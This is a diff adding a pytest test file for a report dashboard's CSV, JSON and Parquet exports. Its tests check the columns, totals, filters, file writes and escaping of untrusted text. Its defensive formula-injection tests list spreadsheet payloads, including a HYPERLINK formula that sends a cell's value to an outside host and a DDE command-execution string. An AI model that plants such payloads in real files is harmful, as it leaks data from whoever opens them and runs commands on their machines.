@@ -1,0 +1,888 @@
+"""Exports: what they say, on both engines; that a file is whole or absent; that text from strangers stays text."""
+
+import csv
+import datetime as dt
+import email
+import gzip
+import io
+import json
+import re
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pyarrow.parquet as pq
+import pytest
+import sqlalchemy as sa
+from hypothesis import HealthCheck, given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+
+from dashboard import export
+from dashboard.export import EXPORTS, FORMATS, ExportRefused, FileNotWritable, Filters
+from ingest import database, models, trace
+from ingest import settings as settings_module
+from ingest.database import DatabaseAway
+from ingest.settings import Settings
+from tests.reports import detail, entry, report_json
+from tests.stored import store_file, store_report, store_reports, submission
+from tests.support import CORPUS
+
+# design.md, "Exports": binding.
+HEADERS = {
+    "summary": "day,policy_domain,reporter,policy_type,policy_mode,trust,reports,successful_sessions,failed_sessions,refused_sessions",
+    "failures": "day,policy_domain,reporter,report_id,policy_type,policy_mode,trust,result_type,failed_sessions,refused,sending_mta_ip,receiving_mx_hostname,receiving_mx_helo,receiving_ip,failure_reason_code,additional_information",
+    "domains": "policy_domain,verdict,policy_mode,window_start,window_end,reporters,sessions,refused_sessions,refusal_bound,last_report_day,reasons",
+    "reports": "received_at,policy_domain,reporter,report_id,range_start,range_end,door,trust,signer,policies,successful_sessions,failed_sessions",
+}
+HUGE = 2**53 - 1
+NOTHING = Filters()
+
+
+@pytest.fixture
+def settings(settings_for: Callable[..., Settings]) -> Settings:
+    return settings_for()
+
+
+def exported(engine: sa.Engine, kind: str, form: str = "csv", filters: Filters = NOTHING) -> bytes:
+    target = io.BytesIO()
+    written = export.write(engine, kind, form, filters, target)
+    assert not target.closed
+    if form == "json":
+        assert written == len(json.loads(target.getvalue()))
+    return target.getvalue()
+
+
+def csv_rows(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8", "strict"), newline=""), strict=True))
+
+
+def rows(engine: sa.Engine, kind: str, filters: Filters = NOTHING) -> list[dict[str, Any]]:
+    value: list[dict[str, Any]] = json.loads(exported(engine, kind, "json", filters))
+    return value
+
+
+def parquet_rows(data: bytes) -> list[dict[str, Any]]:
+    value: list[dict[str, Any]] = pq.read_table(io.BytesIO(data)).to_pylist()
+    return value
+
+
+# What each export says
+
+
+@pytest.mark.parametrize("kind", EXPORTS)
+def test_the_columns_are_those_of_the_design_also_without_rows(sqlite_engine: sa.Engine, kind: str) -> None:
+    assert exported(sqlite_engine, kind).decode() == HEADERS[kind] + "\r\n"
+    assert exported(sqlite_engine, kind, "json") == b"[]\n"
+    table = pq.read_table(io.BytesIO(exported(sqlite_engine, kind, "parquet")))
+    assert ",".join(table.column_names) == HEADERS[kind]
+
+
+def test_a_summary_row_is_complete(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(), settings)
+    assert csv_rows(exported(engine, "summary")) == [
+        {
+            "day": "2026-03-14",
+            "policy_domain": "receiver.example",
+            "reporter": "Sender Inc.",
+            "policy_type": "sts",
+            "policy_mode": "testing",
+            "trust": "verified",
+            "reports": "1",
+            "successful_sessions": "41",
+            "failed_sessions": "6",
+            "refused_sessions": "6",
+        }
+    ]
+
+
+def test_summary_groups_reports_of_one_day_reporter_type_mode_and_trust(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(entry(1), entry(2), report_id="a"), settings)
+    store_report(engine, report_json(entry(4), report_id="b"), settings)
+    store_report(engine, report_json(entry(8), report_id="c"), settings, trust="unauthenticated")
+    store_report(engine, report_json(entry(16), entry(32, policy_type="tlsa"), organization_name="Other"), settings)
+    found = [
+        (row["reporter"], row["policy_type"], row["trust"], row["reports"], row["successful_sessions"])
+        for row in rows(engine, "summary")
+    ]
+    assert found == [
+        ("Other", "sts", "verified", 1, 16),
+        ("Other", "tlsa", "verified", 1, 32),
+        ("Sender Inc.", "sts", "unauthenticated", 1, 8),
+        ("Sender Inc.", "sts", "verified", 2, 7),
+    ]
+
+
+def test_missing_counts_are_empty_and_only_those(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(entry(None, 3, detail(sessions=None))), settings)
+    (row,) = csv_rows(exported(engine, "summary"))
+    assert (row["successful_sessions"], row["failed_sessions"], row["refused_sessions"]) == ("", "3", "3")
+    assert [(row["result_type"], row["failed_sessions"]) for row in csv_rows(exported(engine, "failures"))] == [
+        ("unexplained", "3"),
+        ("certificate-expired", ""),
+    ]
+    (row,) = rows(engine, "reports")
+    assert (row["successful_sessions"], row["failed_sessions"]) == (None, 3)
+    (table,) = parquet_rows(exported(engine, "summary", "parquet"))
+    assert table["successful_sessions"] is None
+
+
+def test_a_missing_count_does_not_hide_one_that_is_there(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(entry(None, 0), entry(5, 0)), settings)
+    assert rows(engine, "summary")[0]["successful_sessions"] == 5
+
+
+def test_a_report_without_entries_is_in_the_summary(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(policies=[]), settings)
+    store_report(engine, report_json(entry(1, policy_type="", policy_domain=...)), settings)
+    found = rows(engine, "summary")
+    assert [(row["policy_domain"], row["policy_type"], row["reports"]) for row in found] == [
+        ("", "", 1),
+        ("receiver.example", "", 1),
+    ]
+    assert (found[0]["successful_sessions"], found[0]["refused_sessions"]) == (None, 0)
+
+
+@pytest.mark.parametrize(
+    ("counts", "total"),
+    [
+        ([HUGE], HUGE),
+        ([HUGE, 1], HUGE + 1),
+        ([2**52, 2**52 - 3, 1], 2**53 - 2),
+        ([2**26 - 1, 2**26, 1], 2**27),
+        ([HUGE] * 1023, HUGE * 1023),  # below 2^63
+        ([HUGE] * 2000, 2**63 - 1),  # what a 64-bit column holds
+    ],
+)
+def test_sums_are_exact_and_never_overflow(
+    engine: sa.Engine, settings: Settings, counts: list[int], total: int
+) -> None:
+    store_report(engine, report_json(*(entry(count, 0) for count in counts)), settings)
+    assert rows(engine, "summary")[0]["successful_sessions"] == total
+    assert rows(engine, "domains")[0]["sessions"] == total
+    assert parquet_rows(exported(engine, "summary", "parquet"))[0]["successful_sessions"] == total
+
+
+def test_failures_are_one_row_for_each_detail_and_one_for_the_unexplained(
+    engine: sa.Engine, settings: Settings
+) -> None:
+    about = detail(
+        "validation-failure",
+        2,
+        receiving_mx_helo="mx1.receiver.example",
+        failure_reason_code="X",
+        additional_information="see log",
+    )
+    store_report(engine, report_json(entry(1, 9, about, detail("sts-policy-fetch-error", 3))), settings)
+    told = csv_rows(exported(engine, "failures"))
+    common = ("2026-03-14", "receiver.example", "Sender Inc.", "2026-03-14T00:00:00Z_receiver.example")
+    assert [tuple(row.values())[:4] for row in told] == [common] * 3
+    assert [tuple(row.values())[4:] for row in told] == [
+        ("sts", "testing", "verified", "unexplained", "4", "true", "", "", "", "", "", ""),
+        (
+            "sts",
+            "testing",
+            "verified",
+            "validation-failure",
+            "2",
+            "true",
+            "192.0.2.1",
+            "mx1.receiver.example",
+            "mx1.receiver.example",
+            "198.51.100.1",
+            "X",
+            "see log",
+        ),
+        (
+            "sts",
+            "testing",
+            "verified",
+            "sts-policy-fetch-error",
+            "3",
+            "false",
+            "192.0.2.1",
+            "mx1.receiver.example",
+            "",
+            "198.51.100.1",
+            "",
+            "",
+        ),
+    ]
+
+
+@pytest.mark.parametrize(("policy_type", "refused"), [("sts", True), ("tlsa", False), ("no-policy-found", False)])
+def test_unexplained_failures_are_refused_only_under_mta_sts(
+    engine: sa.Engine, settings: Settings, policy_type: str, refused: bool
+) -> None:
+    store_report(engine, report_json(entry(1, 2, policy_type=policy_type)), settings)
+    assert [row["refused"] for row in rows(engine, "failures")] == [refused]
+
+
+def test_details_that_overlap_leave_nothing_unexplained(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(entry(0, 1, detail(sessions=1), detail(sessions=1))), settings)
+    assert [row["failed_sessions"] for row in rows(engine, "failures")] == [1, 1]
+
+
+def test_failures_keep_the_entries_of_a_report_apart(engine: sa.Engine, settings: Settings) -> None:
+    store_report(
+        engine,
+        report_json(entry(0, 1, detail(sessions=1)), entry(0, 5, detail("dane-required", 2), policy_type="tlsa")),
+        settings,
+    )
+    found = [(row["policy_type"], row["result_type"], row["failed_sessions"]) for row in rows(engine, "failures")]
+    assert found == [("sts", "certificate-expired", 1), ("tlsa", "unexplained", 3), ("tlsa", "dane-required", 2)]
+
+
+def test_domains_count_trusted_reports_about_mta_sts_only(engine: sa.Engine, settings: Settings) -> None:
+    def store(*entries: Any, trust: str = "verified", name: str = "A", day: str = "2026-03-14") -> None:
+        store_report(engine, report_json(*entries, organization_name=name, day=day), settings, trust=trust)
+
+    store(entry(10, 4, detail(sessions=1)), entry(100, 0, policy_type="tlsa"))
+    store(entry(20, 0), name="B", trust="imported")
+    store(entry(20, 0), name="B", day="2026-03-15")
+    store(entry(1000, 1000), name="C", trust="unverified", day="2026-03-17")
+    store(entry(5000, 1000), name="D", trust="unauthenticated", day="2026-03-16")
+    assert rows(engine, "domains") == [
+        {
+            "policy_domain": "receiver.example",
+            "verdict": None,
+            "policy_mode": "testing",
+            "window_start": None,
+            "window_end": None,
+            "reporters": 2,
+            "sessions": 54,
+            "refused_sessions": 4,
+            "refusal_bound": None,
+            "last_report_day": "2026-03-17",
+            "reasons": None,
+        }
+    ]
+
+
+def test_a_domain_that_only_strangers_speak_about_has_no_evidence(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(), settings, trust="unverified")
+    (row,) = rows(engine, "domains")
+    assert (row["reporters"], row["sessions"], row["refused_sessions"], row["policy_mode"]) == (0, 0, 0, None)
+
+
+def test_sessions_that_trusted_reports_leave_out_are_unknown_not_zero(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(entry(None, None)), settings)
+    (row,) = rows(engine, "domains")
+    assert (row["reporters"], row["sessions"]) == (1, None)
+
+
+def test_the_mode_of_a_domain_is_that_of_the_newest_trusted_entry_that_names_one(
+    engine: sa.Engine, settings: Settings
+) -> None:
+    def store(mode: str | None, day: str, trust: str = "verified") -> None:
+        lines = (
+            [] if mode is None else ["version: STSv1", f"mode: {mode}", "mx: mx1.receiver.example", "max_age: 86400"]
+        )
+        store_report(engine, report_json(entry(1, policy_string=lines), day=day), settings, trust=trust)
+
+    store("enforce", "2026-03-14", "imported")
+    store("testing", "2026-03-13")
+    store(None, "2026-03-15")  # a fetch error quotes no policy
+    store("none", "2026-03-16", "unverified")
+    (row,) = rows(engine, "domains")
+    assert (row["policy_mode"], row["last_report_day"]) == ("enforce", "2026-03-16")
+
+
+def test_a_reports_row_is_complete(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(entry(41, 6), entry(3, 1, policy_type="tlsa")), settings)
+    assert csv_rows(exported(engine, "reports")) == [
+        {
+            "received_at": "2026-03-15T10:11:12Z",
+            "policy_domain": "receiver.example",
+            "reporter": "Sender Inc.",
+            "report_id": "2026-03-14T00:00:00Z_receiver.example",
+            "range_start": "2026-03-14T00:00:00Z",
+            "range_end": "2026-03-14T23:59:59Z",
+            "door": "smtp",
+            "trust": "verified",
+            "signer": "sender.example",
+            "policies": "2",
+            "successful_sessions": "41",  # tlsa lists the same sessions once more
+            "failed_sessions": "6",
+        }
+    ]
+
+
+def test_a_report_about_two_domains_is_two_rows(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(entry(1), entry(2, policy_domain="b.example")), settings)
+    assert [(row["policy_domain"], row["successful_sessions"]) for row in rows(engine, "reports")] == [
+        ("b.example", 2),
+        ("receiver.example", 1),
+    ]
+
+
+@pytest.mark.parametrize("kind", EXPORTS)
+def test_the_three_formats_agree(engine: sa.Engine, settings: Settings, kind: str) -> None:
+    store_report(engine, report_json(), settings)
+    store_report(engine, report_json(entry(None, 3, detail(sessions=None)), day="2026-03-15"), settings)
+    in_json = rows(engine, kind)
+    assert len(in_json) > 0
+
+    def as_csv(value: Any) -> str:
+        if isinstance(value, dt.datetime):
+            return value.strftime("%Y-%m-%dT%H:%M:%SZ")
+        return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)
+
+    assert csv_rows(exported(engine, kind)) == [{name: as_csv(v) for name, v in row.items()} for row in in_json]
+    from_parquet = parquet_rows(exported(engine, kind, "parquet"))
+    assert [{name: as_csv(v) for name, v in row.items()} for row in from_parquet] == csv_rows(exported(engine, kind))
+
+
+def test_parquet_columns_have_types(sqlite_engine: sa.Engine) -> None:
+    types = {
+        f"{kind}.{field.name}": str(field.type)
+        for kind in EXPORTS
+        for field in pq.read_schema(io.BytesIO(exported(sqlite_engine, kind, "parquet")))
+    }
+    assert types["summary.day"] == "date32[day]"
+    assert types["summary.failed_sessions"] == "int64"
+    assert types["failures.refused"] == "bool"
+    assert types["reports.received_at"] == "timestamp[us, tz=UTC]"
+    assert types["domains.refusal_bound"] == "double"
+    assert types["domains.verdict"] == "string"
+
+
+@pytest.mark.parametrize("kind", EXPORTS)
+def test_rows_are_ordered_by_code_points_on_both_engines(engine: sa.Engine, settings: Settings, kind: str) -> None:
+    names = ["a", "B", "_", "é", "z", "Z", "中", "a b", "a-b", "ab", ""]
+    store_reports(
+        engine,
+        [
+            submission(report_json(entry(1, 1, policy_domain=domain), organization_name=name, day=day), settings)
+            for name in names
+            for domain in ("b.example", "a-b.example", "a.example")
+            for day in ("2026-03-15", "2026-03-14")
+        ],
+    )
+    found = rows(engine, kind)
+    keys = [
+        (row.get("day", row.get("range_start", "")), row["policy_domain"], row.get("reporter", "")) for row in found
+    ]
+    assert keys == sorted(keys)
+    assert len(set(keys)) == len(keys) == (3 if kind == "domains" else 66)
+
+
+# Filters
+
+
+@pytest.fixture
+def three_days(engine: sa.Engine, settings: Settings) -> sa.Engine:
+    for day in ("2026-03-13", "2026-03-14", "2026-03-15"):
+        two = [entry(1, 1), entry(1, 1, policy_domain="mx.receiver.example")]
+        store_report(engine, report_json(*two, day=day), settings)
+    return engine
+
+
+@pytest.mark.parametrize(
+    ("asked", "days"),
+    [
+        ({}, [13, 14, 15]),
+        ({"since": "2026-03-14"}, [14, 15]),
+        ({"until": "2026-03-14"}, [13, 14]),
+        ({"since": "2026-03-14", "until": "2026-03-14"}, [14]),
+        ({"since": "2026-03-16"}, []),
+        ({"domain": "receiver.example"}, [13, 14, 15]),
+        ({"domain": "RECEIVER.example."}, [13, 14, 15]),  # as people write it
+        ({"domain": "example"}, []),  # a parent is another domain
+        ({"domain": ["receiver.example", "b.example"]}, [13, 14, 15]),
+    ],
+)
+def test_filters(three_days: sa.Engine, asked: dict[str, Any], days: list[int]) -> None:
+    chosen = Filters.read(**asked)
+    for kind in ("summary", "failures", "reports"):
+        found = rows(three_days, kind, chosen)
+        domains = {"receiver.example"} if "domain" in asked else {"receiver.example", "mx.receiver.example"}
+        assert {row["policy_domain"] for row in found} == (domains if days else set())
+        assert sorted({int((row.get("day") or row["range_start"])[8:10]) for row in found}) == days
+    last = {row["last_report_day"] for row in rows(three_days, "domains", chosen)}
+    assert last == ({f"2026-03-{days[-1]}"} if days else set())
+
+
+@pytest.mark.parametrize(
+    ("allowed", "seen"),
+    [
+        (None, ["mx.receiver.example", "receiver.example"]),
+        (("*",), ["mx.receiver.example", "receiver.example"]),
+        (("receiver.example",), ["receiver.example"]),
+        (("*.receiver.example",), ["mx.receiver.example"]),
+        (("*.Receiver.example", "receiver.EXAMPLE"), ["mx.receiver.example", "receiver.example"]),
+        (("*.eceiver.example", "_eceiver.example", "%"), []),  # no pattern of SQL's
+        ((), []),  # who is allowed nothing sees nothing
+    ],
+)
+def test_nothing_beyond_the_allowed_domains(
+    three_days: sa.Engine, allowed: tuple[str, ...] | None, seen: list[str]
+) -> None:
+    for kind in EXPORTS:
+        for asked in ((), ("receiver.example", "mx.receiver.example")):
+            found = rows(three_days, kind, Filters(asked, allowed=allowed))
+            assert sorted({row["policy_domain"] for row in found}) == seen
+
+
+@pytest.mark.parametrize(
+    ("asked", "said"),
+    [
+        ({"since": "14.03.2026"}, "since '14.03.2026' is no day; write it as YYYY-MM-DD"),
+        ({"until": "2026-02-30"}, "until '2026-02-30' is no day"),
+        ({"since": "2026-W11-6"}, "YYYY-MM-DD"),  # ISO too, but nobody means it
+        ({"since": "20260314"}, "YYYY-MM-DD"),
+        ({"since": "2026-03-14", "until": "2026-03-13"}, r"the last day \(2026-03-13\) is before the first day"),
+        ({"domain": "a b"}, "'a b' is no policy domain"),
+    ],
+)
+def test_filters_that_cannot_be_meant_are_refused(asked: dict[str, str], said: str) -> None:
+    with pytest.raises(ExportRefused, match=said):
+        Filters.read(**asked)
+
+
+@pytest.mark.parametrize(
+    ("kind", "form", "said"),
+    [
+        ("everything", "csv", "'everything'; choose one of summary, failures, domains, reports"),
+        ("summary", "xlsx", "'xlsx'; choose one of csv, json, parquet"),
+    ],
+)
+def test_unknown_words_are_refused_with_the_known_ones(
+    sqlite_engine: sa.Engine, tmp_path: Path, kind: str, form: str, said: str
+) -> None:
+    with pytest.raises(ExportRefused, match=said):
+        export.write(sqlite_engine, kind, form, NOTHING, io.BytesIO())
+    with pytest.raises(ExportRefused, match=said):
+        export.write_file(sqlite_engine, kind, form, NOTHING, tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize(
+    ("filters", "name"),
+    [
+        (Filters(), "starttally-summary.csv"),
+        (Filters(("a.example",)), "starttally-summary-a.example.csv"),
+        (Filters(("a.example", "b.example")), "starttally-summary-2-domains.csv"),
+        (Filters.read(since="2026-03-01"), "starttally-summary-from-2026-03-01.csv"),
+        (Filters.read(until="2026-03-01"), "starttally-summary-to-2026-03-01.csv"),
+        (
+            Filters.read("a.example", "2026-03-01", "2026-03-14"),
+            "starttally-summary-a.example-2026-03-01-2026-03-14.csv",
+        ),
+        (Filters(('../"a',)), "starttally-summary-..__a.csv"),  # what strangers call a domain
+    ],
+)
+def test_file_names(filters: Filters, name: str) -> None:
+    assert export.file_name("summary", "csv", filters) == name
+
+
+# Files
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_a_file_is_what_write_writes(sqlite_engine: sa.Engine, settings: Settings, tmp_path: Path, form: str) -> None:
+    store_report(sqlite_engine, report_json(), settings)
+    path = tmp_path / "out"
+    assert export.write_file(sqlite_engine, "failures", form, NOTHING, path) == 2
+    assert path.read_bytes() == exported(sqlite_engine, "failures", form)
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_a_failed_export_leaves_the_old_file_and_no_other(
+    sqlite_engine: sa.Engine, settings: Settings, tmp_path: Path, form: str
+) -> None:
+    store_report(sqlite_engine, report_json(), settings)
+    folder = tmp_path / "out"
+    folder.mkdir()
+    (folder / "failures").write_text("old")
+
+    def interrupted(_rows: int) -> None:
+        raise KeyboardInterrupt
+
+    with pytest.raises(KeyboardInterrupt):
+        export.write_file(sqlite_engine, "failures", form, NOTHING, folder / "failures", interrupted)
+    assert [(path.name, path.read_text()) for path in folder.iterdir()] == [("failures", "old")]
+    assert sqlite_engine.pool.checkedout() == 0  # type: ignore[attr-defined]
+
+
+def test_a_replaced_file_keeps_its_permissions_and_its_link(sqlite_engine: sa.Engine, tmp_path: Path) -> None:
+    (tmp_path / "real").write_text("old")
+    (tmp_path / "real").chmod(0o600)
+    (tmp_path / "link").symlink_to("real")
+    export.write_file(sqlite_engine, "reports", "csv", NOTHING, tmp_path / "link")
+    assert (tmp_path / "link").is_symlink()
+    assert (tmp_path / "real").read_text().startswith("received_at,")
+    assert (tmp_path / "real").stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        ("missing/out.csv", "No such file or directory"),
+        ("file/out.csv", "Not a directory"),
+        (".", "Is a directory"),
+        ("n" * 300, "File name too long"),
+    ],
+)
+def test_a_file_that_cannot_be_written_is_named(
+    sqlite_engine: sa.Engine, tmp_path: Path, name: str, reason: str
+) -> None:
+    (tmp_path / "file").touch()
+    with pytest.raises(FileNotWritable, match=reason) as raised:
+        export.write_file(sqlite_engine, "reports", "csv", NOTHING, tmp_path / name)
+    assert str(tmp_path / name) in str(raised.value)
+
+
+def test_a_full_disk_is_named(sqlite_engine: sa.Engine) -> None:
+    if not Path("/dev/full").exists():
+        pytest.skip("needs /dev/full (Linux)")
+    with pytest.raises(FileNotWritable, match="/dev/full cannot be written: No space left on device"):
+        export.write_file(sqlite_engine, "reports", "csv", NOTHING, Path("/dev/full"))
+
+
+def test_a_device_is_written_to_and_stays_a_device(sqlite_engine: sa.Engine) -> None:
+    export.write_file(sqlite_engine, "reports", "csv", NOTHING, Path("/dev/null"))
+    assert Path("/dev/null").is_char_device()
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_what_the_target_raises_reaches_the_caller(
+    engine: sa.Engine, settings: Settings, tmp_path: Path, form: str
+) -> None:
+    store_report(engine, report_json(), settings)
+
+    class Closed(io.RawIOBase):
+        def writable(self) -> bool:
+            return True
+
+        def write(self, _data: Any) -> int:
+            raise BrokenPipeError
+
+    with pytest.raises(BrokenPipeError):
+        export.write(engine, "failures", form, NOTHING, Closed())  # type: ignore[arg-type]
+    assert engine.pool.checkedout() == 0  # type: ignore[attr-defined]
+
+
+def test_a_database_that_is_away_is_named(tmp_path: Path) -> None:
+    engine = database.open_engine(f"sqlite:///{tmp_path}/absent.db", read_only=True)
+    with pytest.raises(DatabaseAway):
+        export.write(engine, "reports", "csv", NOTHING, io.BytesIO())
+
+
+def test_a_read_only_engine_is_enough_and_keeps_no_writer_waiting(
+    engine: sa.Engine, database_url: str, settings: Settings
+) -> None:
+    store_report(engine, report_json(), settings)
+    reader = database.open_engine(database_url, read_only=True)
+
+    def write_meanwhile(_rows: int) -> None:
+        store_report(engine, report_json(day="2026-03-15"), settings)
+
+    assert export.write(reader, "reports", "csv", NOTHING, io.BytesIO(), write_meanwhile) == 1
+    reader.dispose()
+    assert len(rows(engine, "reports")) == 2
+
+
+# Streaming
+
+
+def test_rows_are_taken_from_the_database_while_they_are_written(engine: sa.Engine, settings: Settings) -> None:
+    store_report(engine, report_json(*(entry(0, 1, detail()) for _ in range(1000))), settings)
+    sizes: list[int] = []
+    target = io.BytesIO()
+    seen: list[int] = []
+
+    def progress(written: int) -> None:
+        seen.append(written)
+        sizes.append(target.tell())
+
+    assert export.write(engine, "failures", "csv", NOTHING, target, progress) == 1000
+    assert seen == [200, 400, 600, 800, 1000]
+    assert sizes == sorted(set(sizes))  # each part is written before the next one is fetched
+
+
+def test_postgresql_hands_over_a_part_at_a_time(postgresql_server: str, settings: Settings) -> None:
+    from tests.databases import create_database
+
+    url = create_database(postgresql_server)
+    database.upgrade(url)
+    engine = database.open_engine(url)
+    store_report(engine, report_json(*(entry(0, 1, detail()) for _ in range(500))), settings)
+    open_cursors: list[int] = []
+
+    @sa.event.listens_for(engine, "after_cursor_execute")
+    def _count(_connection: Any, cursor: Any, *_: Any) -> None:
+        open_cursors.append(type(cursor).__name__ == "ServerCursor")
+
+    export.write(engine, "failures", "csv", NOTHING, io.BytesIO())
+    engine.dispose()
+    assert open_cursors[-1]
+
+
+def test_parquet_is_written_in_row_groups(
+    sqlite_engine: sa.Engine, settings: Settings, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "_GROUP_ROWS", 300)
+    store_report(sqlite_engine, report_json(*(entry(0, 1, detail()) for _ in range(1000))), settings)
+    groups = pq.ParquetFile(io.BytesIO(exported(sqlite_engine, "failures", "parquet"))).metadata
+    assert [groups.row_group(number).num_rows for number in range(groups.num_row_groups)] == [300, 300, 300, 100]
+
+
+def test_long_texts_end_a_row_group_early(
+    sqlite_engine: sa.Engine, settings: Settings, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "_GROUP_CHARACTERS", 10_000)
+    long = [detail(additional_information="x" * 6_000) for _ in range(4)]
+    store_report(sqlite_engine, report_json(entry(0, 4, *long)), settings)
+    groups = pq.ParquetFile(io.BytesIO(exported(sqlite_engine, "failures", "parquet"))).metadata
+    assert groups.num_row_groups == 2
+
+
+# Text from strangers
+
+GUARDED = [
+    ("=1+1", "a formula"),
+    ("+1", "a formula by its sign"),
+    ("-1", "a text that looks like a negative number"),
+    ("@SUM(A1)", "an old Lotus function"),
+    ("\t=1", "OWASP: tab"),
+    ("\tx", "OWASP: tab"),
+    ("\rx", "OWASP: carriage return"),
+    ("\nx", "OWASP: line feed"),
+    ("＝1", "full width"),
+    ("＋1", "full width"),
+    ("－1", "full width"),
+    ("＠A", "full width"),
+    ("  =1", "blanks are skipped"),
+    ("\u00a0=1", "no-break space"),
+    ("\u3000=1", "ideographic space"),
+    ("\ufeff=1", "byte order mark"),
+    ("\u200b=1", "zero-width space"),
+    ('"=1', "a quote is skipped"),
+    ("'=1", "an apostrophe of the text's own"),
+    ("“=1", "a typographic quote"),
+    ('=HYPERLINK("http://x.example/?"&A1,"ok")', "leaks the neighbour's cell"),
+    ("=cmd|' /C calc'!A0", "DDE"),
+]
+INSIDE = [
+    ("a;=1", "a;'=1", "the separator of the German Excel"),
+    ("a\t=1", "a\t'=1", "the separator of a paste"),
+    ("a\n=1", "a\n'=1", "a line break that is not honoured inside quotes"),
+    ("a\r\n -1", "a\r\n' -1", "the same, with a blank"),
+    ('a;"=1', "a;'\"=1", "the same, with a quote"),
+]
+PLAIN = [
+    "",
+    "a",
+    "mx1.receiver.example",
+    "192.0.2.1",
+    "2001:db8::1",
+    "a=b",
+    "a+b@receiver.example",
+    "1-2",
+    "'tis",
+    "a, -b",
+    "<b>",
+    "mx\nSIZE 1",
+    "é",
+]
+
+
+@pytest.mark.parametrize("text", [text for text, _ in GUARDED])
+def test_no_cell_begins_a_formula(text: str) -> None:
+    assert export.csv_text(text)[0] == "'"
+    assert _undone(export.csv_text(text)) == text
+
+
+@pytest.mark.parametrize(("text", "cell"), [(text, cell) for text, cell, _ in INSIDE])
+def test_no_cell_begins_a_formula_inside(text: str, cell: str) -> None:
+    assert export.csv_text(text) == cell
+    assert _undone(cell) == text
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_other_text_is_left_alone(text: str) -> None:
+    assert export.csv_text(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("a\0b", "a\\x00b"),  # ends the text for readers written in C
+        ("\x1b[31mred", "\\x1b[31mred"),  # a terminal obeys it
+        ("\x9b31m", "\\x9b31m"),  # the same in one character
+        ("a\bb", "a\\x08b"),
+        ("a\u202eb", "a\\u202eb"),  # turns around what follows
+        ("a\u2028b", "a\\u2028b"),  # a line break for some
+        ("a\tb\r\nc\rd", "a\tb\r\nc\rd"),
+    ],
+)
+def test_control_characters_are_shown_not_obeyed(text: str, cell: str) -> None:
+    assert export.csv_text(text) == cell
+
+
+def test_guarding_a_long_text_takes_one_pass() -> None:
+    """Quadratic, this would run into the suite's time-out."""
+    for bomb in ("\t" * 5_000_000, ";" * 5_000_000, " " * 5_000_000, "'" * 5_000_000, "; " * 2_500_000):
+        assert len(export.csv_text(bomb)) <= len(bomb) + 1
+
+
+_BEGINS = "[\\s\u200b-\u200f\u2060-\u2064\u00ad\ufeff\"'`\u2018-\u201f\uff02\uff07]"
+
+
+def _undone(cell: str) -> str:
+    """What docs/exports.md tells the reader of a CSV file to do."""
+    blanks = _BEGINS.replace("\\s", " \u00a0\u1680\u2000-\u200a\u202f\u205f\u3000")
+    signs = "[=+\\-@\uff1d\uff0b\uff0d\uff20]"
+    return re.sub(rf"\A'(?={blanks}*(?:{signs}|[\t\r\n]))|(?<=[;\t\r\n])'(?={blanks}*{signs})", "", cell)
+
+
+def _shown(text: str) -> str:
+    acting = "[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]"
+    return re.sub(acting, lambda m: m[0].encode("unicode_escape").decode(), text)
+
+
+NASTY = st.one_of(
+    st.text(max_size=40),
+    st.text(alphabet="=+-@;\t\r\n '\"`＝a,\0\x1b\u202e\ufeff\u200b\\", max_size=12),
+)
+
+
+@hypothesis_settings(max_examples=500, deadline=None)
+@given(NASTY)
+def test_any_guarded_cell_is_safe_and_can_be_undone(text: str) -> None:
+    cell = export.csv_text(text)
+    assert _undone(cell) == _shown(text)
+    for start in re.split("[;\t\r\n]", cell):
+        assert re.match(_BEGINS + "*[=+\\-@＝＋－＠]", start) is None or start[0] == "'"
+    assert not cell.startswith(("\t", "\r", "\n"))
+
+
+@pytest.fixture(scope="module")
+def scratch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[sa.Engine]:
+    url = f"sqlite:///{tmp_path_factory.mktemp('export')}/starttally.db"
+    database.upgrade(url)
+    engine = database.open_engine(url)
+    yield engine
+    engine.dispose()
+
+
+@pytest.fixture
+def empty(scratch: sa.Engine) -> sa.Engine:
+    _clear(scratch)
+    return scratch
+
+
+def _clear(engine: sa.Engine) -> None:
+    with engine.begin() as connection:
+        for table in models.metadata.sorted_tables:
+            connection.execute(sa.delete(table))
+
+
+@hypothesis_settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(name=NASTY, information=NASTY)
+def test_any_text_comes_back(scratch: sa.Engine, settings: Settings, name: str, information: str) -> None:
+    _clear(scratch)
+    report = report_json(entry(0, 1, detail(additional_information=information)), organization_name=name)
+    store_report(scratch, report, settings)
+    # Intake makes NUL storable (PostgreSQL takes none).
+    name, information = name.replace("\0", "\ufffd"), information.replace("\0", "\ufffd")
+    (row,) = rows(scratch, "failures")
+    assert (row["reporter"], row["additional_information"]) == (name, information)
+    (row,) = parquet_rows(exported(scratch, "failures", "parquet"))
+    assert (row["reporter"], row["additional_information"]) == (name, information)
+    (cells,) = csv_rows(exported(scratch, "failures"))
+    assert _undone(cells["reporter"]) == _shown(name)
